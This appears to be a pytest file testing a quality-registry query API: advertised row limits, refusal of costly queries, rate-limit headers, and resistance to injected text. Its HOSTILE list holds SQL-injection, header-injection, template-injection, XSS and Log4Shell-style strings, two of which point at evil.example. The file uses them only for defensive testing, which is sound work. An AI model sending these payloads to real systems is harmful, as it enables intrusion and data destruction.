"""Limits of questions: stated, told in headers, and kept; and hostile questions."""

import itertools
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import orjson
import pytest
from registry_at_work import publish_all, registry, statement

import openquality_schemas
from openquality_registry.adapters.sql import states
from openquality_registry.answering import found
from openquality_registry.bootstrap import Parts

WHERE = {"where": [{"metric": "on-time-delivery"}], "asOf": "2026-11-20"}
HOSTILE = (
    "'; DROP TABLE measurements; --",
    "' OR '1'='1",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "\x00",
    "\x1f",
    "\x1e",
    "a\r\nset-cookie: b=c",
    '=HYPERLINK("http://evil.example")',
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    "\ud800",
    "\u202e",
    "🙂" * 50,
)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[httpx2.Client, Parts, Path]]:
    folder = tmp_path_factory.mktemp("registry") / "data"
    with registry(folder, rate=0) as (client, parts):
        publish_all(client, [statement(number) for number in range(4)])
        yield client, parts, folder


@pytest.fixture(scope="module")
def client(served: tuple[httpx2.Client, Parts, Path]) -> httpx2.Client:
    return served[0]


def test_limits_are_stated_and_those_that_hold(client: httpx2.Client) -> None:
    stated = client.get("/.well-known/openquality").json()["limits"]["query"]
    _, version = openquality_schemas.newest("query.schema.json")
    schema = orjson.loads(openquality_schemas.read("query.schema.json", version=version))
    assert stated["rows"] == schema["properties"]["limit"]["maximum"]
    assert client.post("/v1/query", json=WHERE | {"limit": stated["rows"]}).status_code == 200
    over = client.post("/v1/query", json=WHERE | {"limit": stated["rows"] + 1})
    assert over.status_code == 422
    bundles = {"bundles": True, "limit": stated["rowsWithBundles"]}
    assert client.post("/v1/query", json=WHERE | bundles).status_code == 200
    bundles["limit"] += 1
    assert client.post("/v1/query", json=WHERE | bundles).status_code == 422


@pytest.mark.parametrize(
    ("module", "name", "more", "said"),
    [
        (found, "MAX_JOINED", {"rank": [{"metric": "on-time-delivery", "weight": "1"}]}, "Narrow"),
        (found, "MAX_JOINED", {"fairness": {"diversityWeight": "0.5"}}, "Narrow"),
        (states, "MAX_PAST", {"atCheckpoint": {"size": 4}}, "Narrow by subject ids"),
    ],
)
def test_a_costly_question_is_refused_with_what_to_narrow(
    client: httpx2.Client,
    monkeypatch: pytest.MonkeyPatch,
    module: Any,  # noqa: ANN401 - a module
    name: str,
    more: dict[str, Any],
    said: str,
) -> None:
    assert client.post("/v1/query", json=WHERE | more).status_code == 200
    monkeypatch.setattr(module, name, 3)
    refused = client.post("/v1/query", json=WHERE | more)
    assert (refused.status_code, refused.json()["code"]) == (422, "invalid-question")
    (finding,) = refused.json()["findings"]
    assert finding["code"] == "Q010"
    assert said in finding["hint"]
    narrowed = WHERE | more | {"subject": {"ids": ["https://id.gs1.org/01/none"]}}
    assert client.post("/v1/query", json=narrowed).status_code == 200


def test_each_counted_answer_tells_the_limit_and_a_refusal_when_to_come_back(
    tmp_path: Path,
) -> None:
    with registry(tmp_path / "data", rate=0.01, burst=2) as (client, _):
        first = client.get("/v1/query?where=cpk")
        assert first.headers["ratelimit-policy"] == '"requests";q=2;w=200'
        assert first.headers["ratelimit"].startswith('"requests";r=1;t=')
        assert (
            client.post("/v1/query", json=WHERE).headers["ratelimit"].startswith('"requests";r=0')
        )
        refused = client.get("/v1/query?where=cpk")
        assert (refused.status_code, refused.json()["code"]) == (429, "too-many-requests")
        assert 1 <= int(refused.headers["retry-after"]) <= 100
        assert refused.headers["ratelimit"].startswith('"requests";r=0;t=')
        assert "ratelimit" not in client.get("/checkpoint").headers


def texts(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for name, item in value.items():
            yield from texts(item, (*path, name))
    elif isinstance(value, list):
        for at, item in enumerate(value):
            yield from texts(item, (*path, at))
    elif isinstance(value, str):
        yield path


def replaced(value: Any, path: tuple[Any, ...], text: str) -> Any:  # noqa: ANN401 - any JSON
    copy = json.loads(json.dumps(value))
    holder = copy
    for name in path[:-1]:
        holder = holder[name]
    holder[path[-1]] = text
    return copy


WHOLE = {
    "subject": {
        "type": "Product",
        "granularity": "model",
        "category": {"scheme": "unspsc", "code": "31161500"},
        "ids": ["https://id.gs1.org/01/09506000134352"],
        "identifiers": [{"scheme": "mpn", "value": "x"}],
        "countries": ["DE"],
        "regions": ["DE-BY"],
    },
    "where": [
        {
            "metric": "on-time-delivery",
            "comparator": "atLeast",
            "value": "9",
            "unit": "%",
            "qualifiers": [{"qualifier": "anchor", "code": "requested"}],
        }
    ],
    "certificates": [
        {"scheme": "ISO-9001", "edition": "2015", "scope": {"scheme": "n", "code": "c"}}
    ],
    "provenance": [{"originCountries": ["DE"], "material": {"name": "steel"}}],
    "accreditors": [{"did": "did:web:a.example", "schemes": ["ISO-9001"]}],
    "asOf": "2026-11-20",
}


def test_no_text_in_a_question_is_more_than_a_text(
    served: tuple[httpx2.Client, Parts, Path],
) -> None:
    client, _, folder = served
    before = client.post("/v1/query", json=WHERE).json()
    places = list(texts(WHOLE))
    assert len(places) == 24
    for path, text in itertools.product(places, HOSTILE):
        body = orjson.dumps(WHOLE) if text == "\ud800" else json.dumps(replaced(WHOLE, path, text))
        answer = client.post(
            "/v1/query", content=body, headers={"content-type": "application/json"}
        )
        assert answer.status_code in {200, 422}, (path, text, answer.text)
        assert "set-cookie" not in answer.headers
        if answer.status_code == 200:
            assert answer.json()["total"] == 0 or text == "\ud800", (path, text)
    assert client.post("/v1/query", json=WHERE).json() == before
    with sqlite3.connect(folder / "registry.sqlite") as database:
        (count,) = database.execute("SELECT count(*) FROM measurements").fetchone()
    database.close()
    assert count == 8  # two claims of each of four records


@pytest.mark.parametrize("text", [text for text in HOSTILE if text != "\ud800"])
def test_no_text_in_a_url_is_more_than_a_text(client: httpx2.Client, text: str) -> None:
    for name in ("where", "subject", "identifier", "certificate", "cursor", "facet", text):
        answer = client.get("/v1/query", params=[("where", "on-time-delivery"), (name, text)])
        assert answer.status_code in {200, 422}, (name, text, answer.text)
        assert answer.headers["content-type"].startswith("application/")
        assert "set-cookie" not in answer.headers
        assert "x" not in answer.headers.get("location", "")
        if answer.status_code == 200:
            assert answer.json()["total"] == 0
